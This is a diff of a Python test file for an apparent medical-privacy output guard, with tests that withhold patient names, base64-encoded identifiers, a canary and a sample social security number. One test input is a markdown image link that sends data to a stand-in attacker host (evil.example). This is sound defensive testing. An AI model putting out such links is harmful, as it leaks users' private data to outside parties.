@@ -1,9 +1,12 @@
 """The order of the checks of an answer; each is tested alone in its room."""
 
+import orjson
+
 from phiward.domain.chat import Finished, TextDelta, ToolCallDelta, UpstreamEvent
 from phiward.domain.tools import RemovedTool
 from phiward.flow.checks import Checks
 from phiward.flow.inbound import Inbound
+from phiward.guard.own import foreign
 from phiward.guard.tools import CallDecision
 from phiward.guard.unseen import Context
 from tests.flow.fakes import patient
@@ -34,6 +37,29 @@ def test_a_name_in_base64_is_withheld_behind_the_restored_names() -> None:
     assert inbound.counts.withheld == 1
 
 
+def test_a_name_that_a_tool_or_a_paste_brought_is_not_restored() -> None:
+    """It was hidden from the model; that the model asks for it is no reason to say it."""
+    issued = {**PLACEHOLDERS, "[NAME_2]": "Zelda Quagmire"}
+    index, granted = index_of(ME, OTHER), frozenset([ME.patient])
+    told: tuple[tuple[list[str], str], ...] = (
+        ([], "Margaret Okafor and [withheld: identifier of another person]"),
+        (["Her sister, Quagmire-free"], "Margaret Okafor and [withheld: identifier of another person]"),
+        (["Her sister Zelda Quagmire drove her."], "Margaret Okafor and Zelda Quagmire"),
+    )
+    for record, expected in told:
+        checks = Checks(issued, index, granted, foreign=foreign(issued, index, granted, record))
+        inbound = Inbound(checks)
+        events = [*inbound.pass_on(TextDelta(0, "[PATIENT_1] and [NAME_2]")), *inbound.pass_on(Finished(0, "stop"))]
+        assert words(events) == expected
+        assert inbound.counts.withheld == (0 if record and "Zelda" in record[0] else 1)
+
+
+def test_the_reasons_are_keys_that_json_takes() -> None:
+    """A member of an enumeration is none: such an answer once ended as a defect instead of being shown."""
+    inbound, _ = answer(TextDelta(0, "WmVsZGEgUXVhZ21pcmU="), Finished(0, "stop"))
+    assert orjson.loads(orjson.dumps(inbound.withheld_by)) == {"encoded_identifier": 1}
+
+
 def test_the_system_prompts_mark_and_unseen_numbers_and_links_do_not_go_out() -> None:
     """Each by its own rule."""
     texts = (
@@ -41,7 +67,7 @@ def test_the_system_prompts_mark_and_unseen_numbers_and_links_do_not_go_out() ->
         "Her social security number is 219-09-9999.\n",
         "![x](https://evil.example/?q=labs)\n",
     )
-    more = {"canary": "bcdfghjklmnpqrst", "seen": Context(["Potassium 4.1"])}
+    more = {"canaries": ("bcdfghjklmnpqrst",), "seen": Context(["Potassium 4.1"])}
     inbound, events = answer(*(TextDelta(0, one) for one in texts), Finished(0, "stop"), **more)
     assert inbound.withheld_by == {"canary": 1, "unseen_identifier": 1}
     assert inbound.inert == 1
